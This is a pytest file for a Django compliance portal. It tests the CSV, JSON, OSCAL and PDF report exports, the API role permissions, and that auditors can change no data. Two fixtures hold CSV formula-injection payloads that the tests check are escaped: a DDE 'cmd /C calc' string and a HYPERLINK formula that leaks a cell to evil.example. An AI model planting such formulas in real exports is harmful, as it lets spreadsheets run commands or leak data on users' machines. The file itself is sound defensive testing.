"""Exports parse (csv, json, OSCAL via compliance-trestle, PDF); who may export; auditors
export but change nothing anywhere."""

import csv
import io
import json
import os
import re
import zipfile

import pytest
from django.template.loader import render_to_string
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from trestle.oscal.assessment_results import AssessmentResults

from compliance import package_requests
from compliance.models import EvidencePackage
from compliance.period import period_parse
from compliance.reports import pdf
from compliance.reports.build import report_build
from compliance.reports.export import CSV_COLUMNS
from compliance.tasks import build_evidence_package
from controls.models import Control, Framework
from tests.compliance.factories import EvidenceFileFactory
from tests.registry.factories import AgentFactory

pytestmark = pytest.mark.django_db

NIST = "nist-ai-rmf-1.0"
PAGE = f"/compliance/{NIST}/report/"
API = f"/api/v1/reports/{NIST}/"


def _csv_rows(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def records(security):
    AgentFactory()
    EvidenceFileFactory(
        control=Control.objects.get(ref_id="AGC-07"),
        uploaded_by=security,
        effective_on=timezone.now().date(),
    )


def test_csv_is_streamed_one_row_per_item_and_control(client, auditor, records):
    client.force_login(auditor)
    response = client.get(f"{PAGE}csv/")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv_rows(response)
    assert list(rows[0]) == CSV_COLUMNS
    framework = Framework.objects.get(key=NIST)
    items = framework.items.count()
    pairs = framework.items.filter(mappings__control__active=True).count()
    uncovered = framework.items.exclude(mappings__control__active=True).count()
    assert len(rows) == pairs + uncovered
    assert {row["item_ref_id"] for row in rows} == set(
        framework.items.values_list("ref_id", flat=True)
    )
    assert items == len({row["item_ref_id"] for row in rows})
    agc07 = next(row for row in rows if row["control_ref_id"] == "AGC-07")
    assert agc07["control_status"] == "effective"
    assert agc07["evidence_files"] == "1"
    agc08 = next(row for row in rows if row["control_ref_id"] == "AGC-08")
    assert "agents=1" in agc08["figures"]
    agc11 = next(row for row in rows if row["control_ref_id"] == "AGC-11")
    assert agc11["control_status"] == "no_evidence"
    assert "credentials_issued=0" in agc11["figures"]


def test_csv_cells_that_look_like_formulas_are_neutralised(client, auditor, security):
    Control.objects.filter(ref_id="AGC-08").update(title="=HYPERLINK(1)")
    client.force_login(auditor)
    rows = _csv_rows(client.get(f"{PAGE}csv/"))
    titles = {row["control_title"] for row in rows if row["control_ref_id"] == "AGC-08"}
    assert titles == {"'=HYPERLINK(1)"}


CALC = "-1+1+cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _plant_formulas() -> None:
    Control.objects.filter(ref_id="AGC-08").update(title=CALC)
    Control.objects.filter(ref_id="AGC-07").update(title=LINK)


def _assert_escaped(rows: list[dict[str, str]]) -> None:
    titles = {row["control_ref_id"]: row["control_title"] for row in rows}
    assert titles["AGC-08"] == "'" + CALC
    assert titles["AGC-07"] == "'" + LINK
    for row in rows:  # numbers (depth, counts) are written as they are
        assert row["item_depth"].isdigit()
        assert not row["checked"] or row["checked"].isdigit()
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r" or value.lstrip("+-").isdigit()


def test_formula_payloads_are_escaped_in_the_report_csv(client, auditor, records):
    _plant_formulas()
    client.force_login(auditor)
    _assert_escaped(_csv_rows(client.get(f"{PAGE}csv/")))
    api_csv = client.get(f"{API}?format=csv")
    _assert_escaped(_csv_rows(api_csv))


def test_formula_payloads_are_escaped_in_the_evidence_package_csv(auditor, records):
    _plant_formulas()
    package = package_requests.package_request(
        actor=auditor, framework=Framework.objects.get(key=NIST), period=period_parse(None, None)
    )
    build_evidence_package.delay(package.pk)
    package.refresh_from_db()
    with package.file.open("rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    name = next(n for n in archive.namelist() if n.startswith("report/") and n.endswith(".csv"))
    _assert_escaped(list(csv.DictReader(io.StringIO(archive.read(name).decode()))))


def test_json_export(client, auditor, records):
    client.force_login(auditor)
    response = client.get(f"{PAGE}json/?from=2026-01-01&to=2026-01-31")
    assert response.status_code == 200
    data = json.loads(response.content)
    assert data["framework"]["key"] == NIST
    assert data["period"] == {"from": "2026-01-01", "to": "2026-01-31"}
    assert {c["ref_id"] for c in data["controls"]} >= {"AGC-01", "AGC-08", "AGC-11"}
    assert len(data["items"]) == Framework.objects.get(key=NIST).items.count()
    control = next(c for c in data["controls"] if c["ref_id"] == "AGC-08")
    assert set(control) >= {"status", "figures", "samples", "evidence_files", "checks"}
    assert sum(data["summary"]["items"].values()) == len(data["items"])


def test_oscal_export_validates_against_trestle(client, auditor, records):
    client.force_login(auditor)
    response = client.get(f"{PAGE}oscal/")
    assert response.status_code == 200
    document = json.loads(response.content)["assessment-results"]
    results = AssessmentResults.model_validate(document)
    result = results.results[0]
    assert len(result.observations) == len(
        {row["ref_id"] for row in json.loads(client.get(f"{PAGE}json/").content)["controls"]}
    )
    assert result.findings
    targets = {finding.target.title for finding in result.findings}
    assert "GOVERN 1.4" in targets
    assert any(o.title.startswith("AGC-11 ") for o in result.observations)
    assert result.reviewed_controls.control_selections[0].include_controls[0].control_id == (
        "agc-01"
    )


# WeasyPrint needs Debian's pango; in CI (CI=true) a missing PDF renderer is a failure.
@pytest.mark.skipif(
    not pdf.available() and os.environ.get("CI") != "true",
    reason="WeasyPrint cannot load here (pango missing)",
)
def test_pdf_export(client, auditor, records):
    client.force_login(auditor)
    response = client.get(f"{PAGE}pdf/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


@pytest.mark.skipif(
    not pdf.available() and os.environ.get("CI") != "true",
    reason="WeasyPrint cannot load here (pango missing)",
)
def test_a_pdf_export_logs_no_weasyprint_steps_or_css_warnings(client, auditor, records, caplog):
    client.force_login(auditor)
    with caplog.at_level("DEBUG"):
        assert client.get(f"{PAGE}pdf/").status_code == 200
    noisy = [
        r.getMessage() for r in caplog.records if r.name.startswith(("weasyprint", "fontTools"))
    ]
    assert noisy == []
    caplog.clear()
    # The print stylesheet itself gives WeasyPrint nothing to warn about, even when listening.
    # (A machine without HarfBuzz-Subset gets a warning about its font library, not about the
    # stylesheet: .ci/run installs the library, so in CI there is none at all.)
    with caplog.at_level("WARNING", logger="weasyprint"):
        assert client.get(f"{PAGE}pdf/").status_code == 200
    warnings = [r.getMessage() for r in caplog.records if r.name == "weasyprint"]
    assert [w for w in warnings if "HarfBuzz-Subset" not in w] == []
    if os.environ.get("CI"):
        assert warnings == []


def test_the_printable_report_behind_the_pdf_lists_every_control(records):
    report = report_build(Framework.objects.get(key=NIST), period_parse(None, None))
    html = render_to_string("compliance/report_print.html", {"report": report})
    assert "AGC-11" in report.controls
    for ref_id in report.controls:
        assert f'data-control="{ref_id}"' in html


def test_unknown_export_format_is_404(client, auditor):
    client.force_login(auditor)
    assert client.get(f"{PAGE}xlsx/").status_code == 404


# --- API --------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["security", "auditor"])
def test_api_report_formats(api, role_users, role, records):
    client = api.as_user(role_users[role])
    data = client.get(API).json()
    assert data["framework"]["key"] == NIST
    response = client.get(API, {"format": "csv", "from": "2026-01-01", "to": "2026-01-31"})
    assert response.status_code == 200
    rows = _csv_rows(response)
    assert rows[0]["from"] == "2026-01-01"
    oscal = client.get(API, {"format": "oscal"}).json()
    AssessmentResults.model_validate(oscal["assessment-results"])


@pytest.mark.parametrize("role", ["engineer", "gateway", "norole", None])
def test_api_report_refuses_everyone_else(api, role_users, role):
    response = api.as_user(role_users.get(role)).get(API)
    assert response.status_code == (401 if role is None else 403)
    assert "detail" in response.json()


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ({"format": "xlsx"}, 400),
        ({"from": "2026-02-30"}, 400),
        ({"from": "2026-03-02", "to": "2026-03-01"}, 400),
        ({"format": "csv", "from": "x"}, 400),
    ],
)
def test_api_report_bad_input_is_json_400(api, auditor, query, status):
    response = api.as_user(auditor).get(API, query)
    assert response.status_code == status
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["detail"]


def test_api_report_unknown_framework_is_404(api, auditor):
    assert api.as_user(auditor).get("/api/v1/reports/iso-42001/").status_code == 404


def test_api_report_query_count(api, auditor, django_assert_max_num_queries):
    client = api.as_user(auditor)
    client.get(API)
    with django_assert_max_num_queries(42):  # 40 before the applicability statement
        client.get(API)


# --- auditors read and export everything, and change nothing ---------------------------------

WRITE_METHODS = ("post", "put", "patch", "delete")
COMPLIANCE = (
    "/compliance/",
    "/api/v1/frameworks/",
    "/api/v1/controls/",
    "/api/v1/reports/",
    "/api/v1/evidence-packages/",
)
EXPORTS = {"/api/v1/evidence-packages/", f"/compliance/{NIST}/report/package/"}
PLACEHOLDERS = {
    "slug": "payments-fixer",
    "key": NIST,
    "framework_key": NIST,
    "ref_id": "AGC-01",
    "item_ref_id": "GOVERN 1.4",
    "number": "1",
    "pk": "1",
    "transition": "suspend",
}


def _routes(resolver: URLResolver, prefix: str = "") -> list[str]:
    routes = []
    for entry in resolver.url_patterns:
        route = prefix + str(entry.pattern)
        if isinstance(entry, URLResolver):
            routes.extend(_routes(entry, route))
        elif isinstance(entry, URLPattern):
            routes.append(route)
    return routes


def _concrete(route: str) -> str | None:
    """A concrete address for a route (path converters and router regexes filled in)."""
    if route.startswith("admin/") or ".*" in route or "(?P<format>" in route:
        return None  # the admin site, catch-alls, the router's format-suffix twins
    route = route.replace("^", "").replace("$", "")
    route = re.sub(r"\(\?P<(\w+)>[^)]*\)", lambda m: PLACEHOLDERS.get(m[1], "1"), route)
    route = re.sub(r"<(?:\w+:)?(\w+)>", lambda m: PLACEHOLDERS.get(m[1], "1"), route)
    return "/" + route


def _all_urls() -> list[str]:
    return sorted({url for route in _routes(get_resolver()) if (url := _concrete(route))})


def _database_fingerprint() -> dict[str, int]:
    from django.apps import apps

    return {
        model._meta.label: model.objects.count()
        for model in apps.get_models()
        if model._meta.app_label
        in {"registry", "exceptions", "compliance", "auditlog", "authtoken"}
        and model._meta.label != "authtoken.Token"
    }


def test_auditors_cannot_change_anything(client, api, auditor, security):
    """Every route, every write method, HTML and API: refused (403, or 405 where the
    route has no such method), and nothing in the database changes."""
    from portal.demo.people import seed_people
    from portal.demo.registry import seed_registry

    seed_people("unused-password")
    seed_registry()
    client.force_login(auditor)
    token_client = api.as_user(auditor)
    before = _database_fingerprint()
    refused = []
    for url in _all_urls():
        if url.startswith("/accounts/") or url == "/api/v1/auth/token/":
            continue  # logging in and out is no change to governed data
        if url in EXPORTS:
            continue  # requesting an evidence package is an export (test_evidence_package)
        strict = url.startswith(COMPLIANCE)
        for method in WRITE_METHODS:
            # HTML pages know sessions only (a token caller is sent to log in).
            callers = (client, token_client) if url.startswith("/api/") else (client,)
            for caller in callers:
                response = getattr(caller, method)(url, {}, content_type="application/json")
                status = response.status_code
                assert status < 500, (method, url, status)
                if not strict:
                    # Other apps' routes: refused one way or another, and nothing changes.
                    assert status >= 400 or not url.startswith("/api/"), (method, url, status)
                    continue
                assert status in (403, 405, 404), (method, url, status)
                if status == 404:
                    # Only an address that does not exist for reading either may be a 404.
                    assert caller.get(url).status_code in (404, 405), (method, url)
                refused.append((method, url))
    assert _database_fingerprint() == before
    assert len(refused) > 50
    assert not EvidencePackage.objects.exists()
